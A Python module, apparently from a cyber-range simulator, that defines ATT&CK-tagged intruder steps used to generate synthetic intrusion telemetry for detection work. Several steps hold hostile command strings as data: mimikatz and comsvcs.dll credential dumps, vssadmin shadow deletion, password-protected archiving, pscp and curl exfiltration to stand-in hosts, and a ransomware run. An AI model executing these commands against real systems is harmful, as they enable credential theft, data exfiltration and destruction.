"""The steps that scenarios are made of. Each cites its ATT&CK technique and uses the same acts as ordinary work.

Care: 0 noisy (own tools, strange places and times); 1 living off the land; 2 also at agreed hours, from the provider's own
network, to agreed systems; 3 also with that person's own tool, host and pace.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field, replace

from countersign.range.estate import Account, Estate, Host, Person, Provider, sid_of
from countersign.range.plan.commands import S32
from countersign.range.plan.deeds import Deeds
from countersign.range.plan.scene import Desktop, Foothold, Tunnel
from countersign.range.plan.visits import tool_for, work
from countersign.range.streams.base import SITES
from countersign.range.truth import TrueHop

NOISY, OFF_THE_LAND, AGREED, IN_CHARACTER = range(4)
STAGE = {NOISY: r"C:\PerfLogs", OFF_THE_LAND: r"C:\Temp", AGREED: r"C:\Temp", IN_CHARACTER: r"C:\Temp"}
FOREIGN, DROP = "198.51.100.77", "198.51.100.140"


@dataclass(slots=True)
class Player:
    """An intruder in the middle of things."""

    estate: Estate
    acts: Deeds
    provider: Provider
    person: Person
    care: int
    origin: str
    tunnel: Tunnel | None = None
    place: Foothold | None = None
    desktop: Desktop | None = None
    account: Account | None = None
    cloud: TrueHop | None = None
    identity: dict[str, object] = field(default_factory=dict)
    aws: int = 0
    after: list[Callable[[], None]] = field(default_factory=list)

    @property
    def at(self) -> Desktop:
        """The desktop where the intruder sits."""
        if self.desktop is None:
            raise RuntimeError("a step on a host comes after `rdp`")
        return self.desktop

    @property
    def who(self) -> Account:
        """The account in use."""
        return self.account or self.person.account

    @property
    def switched(self) -> bool:
        """Whether other credentials than the person's are in use."""
        return self.account is not None

    def pause(self, least: float = 20, most: float = 120) -> None:
        """The time between two deeds: a person's own pace where care is taken."""
        pace = self.person.pace if self.care >= IN_CHARACTER else 0.4 if self.care == NOISY else 1.0
        self.acts.wait(least * pace, most * pace)

    def host(self, role: object) -> Host:
        """A host of a role; with care one that the provider (or this person) looks after, where there is one."""
        hosts, rng = self.estate.hosts, self.acts.rng
        members = [i for i in self.estate.by_role.get(str(role), []) if not hosts[i].linux or role == "linux"]
        agreed = [
            i
            for i in members
            if i in (self.person.hosts if self.care >= IN_CHARACTER else self.provider.servers)
        ]
        if self.care >= AGREED and agreed:
            members = agreed
        elif self.care >= AGREED and role != "controller":
            own = [i for i in self.person.hosts if hosts[i].linux == (role == "linux")]
            members = own or members
        return hosts[rng.choice(members or self.estate.by_role["app"])]

    def in_character(self, host: Host, technique: str, name: str) -> bool:
        """At the highest care the person's own tool is taken, whatever the scenario says; whether that was done."""
        if self.care < IN_CHARACTER:
            return False
        first = len(self.acts.visit.hops)
        acting = replace(self.person, account=self.who)
        work(self.acts, self.at.inside, host, acting, tool_for(self.acts.rng, self.person), patching=False)
        for hop in self.acts.visit.hops[first:]:
            hop.switch = self.switched
            self.acts.deed(hop, host.name, "logon", "by the person's own tool", technique, name)
        self.acts.done()
        self.pause()
        return True


Do = Callable[[Player, dict[str, object]], None]


@dataclass(frozen=True, slots=True)
class Step:
    """A step: its techniques, options, and what it does."""

    name: str
    techniques: tuple[str, ...]
    options: tuple[str, ...]
    do: Do
    way_in: bool


STEPS: dict[str, Step] = {}


def step(name: str, techniques: str, options: str = "", *, way_in: bool = False) -> Callable[[Do], Do]:
    """Registers a step under its name; the order is that of docs/range.md."""

    def register(do: Do) -> Do:
        STEPS[name] = Step(name, tuple(techniques.split()), tuple(options.split()), do, way_in)
        return do

    return register


# ways in


@step("login_vpn", "T1133 T1078.002", way_in=True)
def _login_vpn(p: Player, _: dict[str, object]) -> None:
    if p.provider.spec.gateway is None:
        p.place = p.acts.outside(p.origin, p.person.client)
        return
    p.tunnel, p.place = p.acts.vpn(p.provider.spec.gateway, p.person, p.origin, mistyped=p.care == NOISY)
    p.acts.deed(
        p.tunnel.hop, p.provider.spec.gateway, "logon", "VPN with a stolen password", "T1133", "login_vpn"
    )
    p.acts.done()
    if p.care == NOISY:
        p.place.client = "DESKTOP-9F2KQ1"
    tunnel = p.tunnel
    p.after.append(lambda: p.acts.hang_up(tunnel, 41_000_000, 6_200_000))
    p.pause(20, 60)


@step("login_partner", "T1199 T1078.004", way_in=True)
def _login_partner(p: Player, _: dict[str, object]) -> None:
    mfa = p.care >= AGREED
    p.cloud, _session = p.acts.sign_in(
        p.person.upn, p.person.name, p.origin, p.provider.tenant_id, 0, mfa=mfa
    )
    p.acts.deed(p.cloud, p.cloud.target, "logon", "partner's sign-in", "T1199", "login_partner")
    p.acts.done()


@step("assume_role", "T1199 T1550.001", way_in=True)
def _assume_role(p: Player, _: dict[str, object]) -> None:
    name = p.person.upn.partition("@")[0] if p.care >= OFF_THE_LAND else "botocore-session-1"
    account = p.acts.rng.randrange(max(1, len(p.estate.aws)))
    p.cloud, p.identity, p.aws = p.acts.assume(
        f"{p.provider.spec.name}-operations", name, p.origin, account=account, mfa=p.care >= AGREED
    )
    p.acts.deed(p.cloud, p.cloud.target, "logon", "role taken", "T1199", "assume_role")
    p.acts.done()


# ways on


@step("rdp", "T1021.001", "to")
def _rdp(p: Player, options: dict[str, object]) -> None:
    role = options.get("to", "jump")
    source = p.desktop.inside if p.desktop is not None else p.place
    if source is None:
        raise RuntimeError("rdp comes after a way in")
    host = p.estate.hosts[p.provider.jump] if role == "jump" else p.host(role)
    desktop = p.acts.rdp(source, host, p.who)
    desktop.hop.switch = p.switched
    p.acts.deed(desktop.hop, host.name, "logon", "remote desktop", "T1021.001", "rdp")
    p.acts.done()
    p.desktop = desktop
    p.after.append(lambda: p.acts.leave(desktop))
    p.pause()


def _on(p: Player, role: object, default: str) -> Host:
    return p.host(role or default)


def _command(p: Player, noisy: str, quiet: str) -> str:
    return noisy if p.care == NOISY else quiet


@step("psexec", "T1569.002 T1021.002", "to command")
def _psexec(p: Player, options: dict[str, object]) -> None:
    host = _on(p, options.get("to"), "file")
    if p.in_character(host, "T1569.002", "psexec"):
        return
    command = str(options.get("command") or _command(p, rf"{S32}\cmd.exe /c whoami", rf"{S32}\hostname.exe"))
    service = "BTOBTO" if p.care == NOISY else "PSEXESVC"
    p.acts.psexec(
        p.at.inside,
        host,
        p.who,
        [command],
        service=service,
        switch=p.switched,
        technique="T1569.002",
        name="psexec",
    )
    p.pause()


@step("wmi", "T1047", "to command")
def _wmi(p: Player, options: dict[str, object]) -> None:
    host = _on(p, options.get("to"), "app")
    if p.in_character(host, "T1047", "wmi"):
        return
    command = str(options.get("command") or rf"{S32}\tasklist.exe /svc")
    p.acts.wmi(
        p.at.inside,
        host,
        p.who,
        [command],
        switch=p.switched,
        technique="T1047",
        name="wmi",
    )
    p.pause()


@step("winrm", "T1021.006", "to")
def _winrm(p: Player, options: dict[str, object]) -> None:
    host = _on(p, options.get("to"), "app")
    if p.in_character(host, "T1021.006", "winrm"):
        return
    commands = [rf"{S32}\whoami.exe /groups", rf"{S32}\NETSTAT.EXE -ano"]
    p.acts.winrm(p.at.inside, host, p.who, commands, switch=p.switched)
    p.pause()


@step("ssh", "T1021.004", "to")
def _ssh(p: Player, _: dict[str, object]) -> None:
    p.acts.ssh(
        p.at.inside,
        p.host("linux"),
        p.who,
        ("/usr/bin/tar czf /tmp/logs.tgz /var/log/nginx",),
        switch=p.switched,
    )
    p.pause()


@step("schedule_task", "T1053.005", "to")
def _task(p: Player, options: dict[str, object]) -> None:
    host = _on(p, options.get("to"), "app")
    if p.in_character(host, "T1053.005", "schedule_task"):
        return
    task, command = (
        _command(p, "SystemHealthMon", "maintenance-7"),
        _command(p, r"C:\PerfLogs\p.exe", rf"{S32}\gpupdate.exe /force"),
    )
    p.acts.task(
        p.at.inside,
        host,
        p.who,
        task,
        command,
        switch=p.switched,
        technique="T1053.005",
        name="schedule_task",
    )
    p.pause()


@step("create_service", "T1543.003 T1021.002", "to")
def _service(p: Player, options: dict[str, object]) -> None:
    host = _on(p, options.get("to"), "app")
    if p.in_character(host, "T1543.003", "create_service"):
        return
    service, path = (
        _command(p, "WinUpdSvc", "Updater4"),
        _command(p, r"C:\PerfLogs\svc.exe", r"C:\Install\updater.exe"),
    )
    p.acts.service(
        p.at.inside,
        host,
        p.who,
        service,
        path,
        switch=p.switched,
        technique="T1543.003",
        name="create_service",
    )
    p.pause()


@step("map_admin_share", "T1021.002", "to")
def _map(p: Player, options: dict[str, object]) -> None:
    paths = [("Shares", False), (r"Shares\Finance", False), (r"Shares\Research", False)]
    if p.care >= IN_CHARACTER:
        paths = [(f"updates\\package-{number}.msi", False) for number in range(4)]
    p.acts.smb(
        p.at.inside,
        _on(p, options.get("to"), "file"),
        p.who,
        "C$",
        paths,
        switch=p.switched,
        technique="T1021.002",
        name="map_admin_share",
    )
    p.pause()


@step("work_as_usual", "T1078.002")
def _usual(p: Player, _: dict[str, object]) -> None:
    """What the person does anyway, to go under in it."""
    host = p.estate.hosts[p.person.hosts[0]]
    work(p.acts, p.at.inside, host, p.person, tool_for(p.acts.rng, p.person), patching=False)
    p.pause()


# on a host

LOOKS = (
    (rf"{S32}\whoami.exe /groups", "T1033"),
    (rf'{S32}\net.exe group "Domain Admins" /domain', "T1069.002"),
    (rf"{S32}\nltest.exe /domain_trusts", "T1482"),
    (rf"{S32}\net.exe user /domain", "T1087.002"),
    (rf"{S32}\NETSTAT.EXE -ano", "T1049"),
)


@step("look_around", "T1033 T1069.002 T1482 T1087.002 T1049")
def _look(p: Player, _: dict[str, object]) -> None:
    number = len(LOOKS) if p.care < AGREED else 2 if p.care == AGREED else 1
    for command, technique in LOOKS[:number]:
        p.pause(8, 45)
        p.acts.run(p.at, command, technique=technique, name="look_around")


@step("dump_credentials", "T1003.001 T1552.001")
def _dump(p: Player, _: dict[str, object]) -> None:
    if p.care >= AGREED:
        # a password in a script on a share, which leaves no more than the script's reading
        host, paths = p.host("file"), [("scripts\\check-4.ps1", False), ("scripts\\check-12.ps1", False)]
        p.acts.smb(
            p.at.inside,
            host,
            p.person.account,
            "Install",
            paths,
            technique="T1552.001",
            name="dump_credentials",
        )
        p.pause(60, 400)
        return
    quiet = rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full"
    command = _command(p, r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", quiet)
    p.acts.dump(
        p.at.host,
        p.at.account,
        p.at.tokens[0],
        command,
        p.at.hop,
        technique="T1003.001",
        name="dump_credentials",
    )
    p.pause(60, 400)


@step("switch_credential", "T1078.002", "to")
def _switch(p: Player, options: dict[str, object]) -> None:
    if options.get("to") == "service":
        p.account = (
            p.provider.services[0].account if p.provider.services else p.estate.administrators[0].account
        )
    else:
        p.account = p.estate.administrators[p.acts.rng.randrange(len(p.estate.administrators))].account


@step("kerberoast", "T1558.003")
def _roast(p: Player, _: dict[str, object]) -> None:
    count = {NOISY: 40, OFF_THE_LAND: 10, AGREED: 4, IN_CHARACTER: 2}[p.care]
    p.acts.weak_tickets(
        p.at.inside, p.at.host, p.who, p.at.hop, count, technique="T1558.003", name="kerberoast"
    )
    p.pause()


@step("dcsync", "T1003.006")
def _dcsync(p: Player, _: dict[str, object]) -> None:
    controller = p.estate.hosts[p.at.host.controller]
    p.acts.replicate(p.at.inside, controller, p.who, switch=p.switched, technique="T1003.006", name="dcsync")
    p.pause()


@step("add_account", "T1136.002 T1098", "group")
def _account(p: Player, options: dict[str, object]) -> None:
    controller = p.estate.hosts[p.at.host.controller]
    new = _command(p, "support_388945a0", f"n.joiner{p.acts.rng.randrange(900)}")
    p.acts.new_account_on(
        p.at.inside,
        controller,
        p.who,
        new,
        group=str(options.get("group", "Domain Admins")),
        switch=p.switched,
        technique="T1136.002",
        name="add_account",
    )
    p.pause()


@step("stage_archive", "T1560.001 T1074.001")
def _stage(p: Player, _: dict[str, object]) -> None:
    stage = STAGE[p.care]
    if p.care >= IN_CHARACTER:
        p.acts.deed(
            p.at.hop, p.at.host.name, "file", "a folder compressed in Explorer", "T1560", "stage_archive"
        )
        p.acts.created(
            p.at.host, p.who, r"C:\Windows\explorer.exe", p.at.inside.shell, rf"{stage}\logs-7.zip", p.at.hop
        )
        p.acts.done()
        return
    quiet = rf"C:\Program Files\7-Zip\7z.exe a -p {stage}\logs.7z C:\Logs"
    command = _command(p, rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users", quiet)
    number = p.acts.run(p.at, command, technique="T1560.001", name="stage_archive")
    p.acts.wait(30, 90)
    image = command.partition(".exe")[0] + ".exe"
    name = rf"{stage}\s.part01.rar" if p.care == NOISY else rf"{stage}\logs.7z"
    p.acts.created(p.at.host, p.who, image, number, name, p.at.hop)


@step("copy_out", "T1048.002 T1567", "megabytes")
def _copy(p: Player, options: dict[str, object]) -> None:
    size = int(str(options.get("megabytes", 800))) * 1_000_000
    if p.care >= IN_CHARACTER:
        # through the desktop's own connection, as files are fetched over a redirected drive
        p.acts.deed(
            p.at.hop,
            p.at.host.name,
            "network",
            f"{size} bytes over the remote desktop",
            "T1048.002",
            "copy_out",
        )
        p.acts.done()
        p.acts.wait(600, 2400)
        return
    quiet = rf"{S32}\curl.exe -T C:\Temp\logs.7z https://support.vendor.example/upload"
    command = _command(
        p, rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/", quiet
    )
    address = DROP if p.care < AGREED else SITES[3][1].decode()
    p.acts.sent(p.at, address, size, command, technique="T1048.002", name="copy_out")
    p.pause()


@step("beacon", "T1071.001", "hours")
def _beacon(p: Player, options: dict[str, object]) -> None:
    period = 60.0 if p.care < AGREED else 600.0
    times = max(3, int(float(str(options.get("hours", 1))) * 3600 / period))
    address = DROP if p.care < AGREED else SITES[4][1].decode()
    p.acts.beacon(p.at.host, p.at.hop, address, min(times, 400), period, technique="T1071.001", name="beacon")


@step("clear_log", "T1070.001")
def _clear(p: Player, _: dict[str, object]) -> None:
    if p.care >= AGREED:
        return  # a cleared log is what would be looked at
    p.acts.clear_log(
        p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1070.001", name="clear_log"
    )
    p.pause()


@step("stop_sensor", "T1562.001")
def _stop(p: Player, _: dict[str, object]) -> None:
    p.acts.stop_sensor(
        p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1562.001", name="stop_sensor"
    )
    p.pause()


@step("remove_backups", "T1490", "to")
def _backups(p: Player, options: dict[str, object]) -> None:
    command = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
    p.acts.wmi(
        p.at.inside,
        _on(p, options.get("to"), "file"),
        p.who,
        [command],
        switch=p.switched,
        technique="T1490",
        name="remove_backups",
    )


@step("encrypt", "T1486", "hosts")
def _encrypt(p: Player, options: dict[str, object]) -> None:
    command = _command(p, r"C:\PerfLogs\locker.exe -all", r"C:\Install\updater.exe /s")
    for _ in range(int(str(options.get("hosts", 5)))):
        p.acts.psexec(
            p.at.inside, p.host("app"), p.who, [command], switch=p.switched, technique="T1486", name="encrypt"
        )


# clouds


def _cloud(p: Player) -> TrueHop:
    if p.cloud is None:
        raise RuntimeError("a step in a cloud comes after `login_partner` or `assume_role`")
    p.pause()
    return p.cloud


@step("consent_app", "T1098.001 T1550.001")
def _consent(p: Player, _: dict[str, object]) -> None:
    target: dict[str, object] = {
        "type": "ServicePrincipal",
        "displayName": _command(p, "Mail Backup Pro", "Graph Reporting"),
    }
    p.acts.directory(
        _cloud(p),
        p.person.upn,
        p.origin,
        "Consent to application",
        "ApplicationManagement",
        [target],
        technique="T1098.001",
        name="consent_app",
    )


@step("add_credential", "T1098.001")
def _credential(p: Player, _: dict[str, object]) -> None:
    target: dict[str, object] = {"type": "ServicePrincipal", "displayName": "Graph Reporting"}
    p.acts.directory(
        _cloud(p),
        p.person.upn,
        p.origin,
        "Add service principal credentials",
        "ApplicationManagement",
        [target],
        technique="T1098.001",
        name="add_credential",
    )


@step("mailbox_rule", "T1114.003 T1564.008")
def _rule(p: Player, _: dict[str, object]) -> None:
    more: dict[str, object] = {
        "ObjectId": f"user{p.acts.rng.randrange(900)}",
        "Parameters": [{"Name": "ForwardTo", "Value": "archive@mail.example"}],
    }
    p.acts.office(
        _cloud(p), p.person.upn, p.origin, "New-InboxRule", more, technique="T1114.003", name="mailbox_rule"
    )


@step("read_mail", "T1114.002", "times")
def _mail(p: Player, options: dict[str, object]) -> None:
    for _ in range(int(str(options.get("times", 12)))):
        more: dict[str, object] = {"ObjectId": f"user{p.acts.rng.randrange(900)}"}
        p.acts.office(
            _cloud(p),
            p.person.upn,
            p.origin,
            "MailItemsAccessed",
            more,
            technique="T1114.002",
            name="read_mail",
        )


def _call(p: Player, service: str, name: str, technique: str, step_: str, *, read: bool = False) -> None:
    p.acts.call(
        _cloud(p), p.identity, p.aws, p.origin, service, name, read_only=read, technique=technique, step=step_
    )


@step("create_access_key", "T1098.001")
def _key(p: Player, _: dict[str, object]) -> None:
    _call(p, "iam", "CreateAccessKey", "T1098.001", "create_access_key")


@step("share_snapshot", "T1537")
def _snapshot(p: Player, _: dict[str, object]) -> None:
    _call(p, "ec2", "ModifySnapshotAttribute", "T1537", "share_snapshot")


@step("stop_trail", "T1562.008")
def _trail(p: Player, _: dict[str, object]) -> None:
    _call(p, "cloudtrail", "StopLogging", "T1562.008", "stop_trail")


@step("read_secrets", "T1555.006", "times")
def _secrets(p: Player, options: dict[str, object]) -> None:
    for _ in range(int(str(options.get("times", 6)))):
        _call(p, "secretsmanager", "GetSecretValue", "T1555.006", "read_secrets", read=True)


# time


@step("wait", "", "minutes")
def _wait(p: Player, options: dict[str, object]) -> None:
    p.acts.wait(float(str(options.get("minutes", 30))) * 60)


@step("return_after_cleanup", "T1078", "days", way_in=True)
def _return(p: Player, _: dict[str, object]) -> None:
    """The way in of before, days later and with another account of the provider's."""
    _login_vpn(p, {})


def account_after_cleanup(provider: Provider, person: Person) -> Person:
    """Whose account is used after the first one was closed."""
    people = provider.people
    return people[(people.index(person) + 1) % len(people)] if person in people else people[0]


__all__ = ["STEPS", "Player", "Step", "account_after_cleanup", "sid_of"]
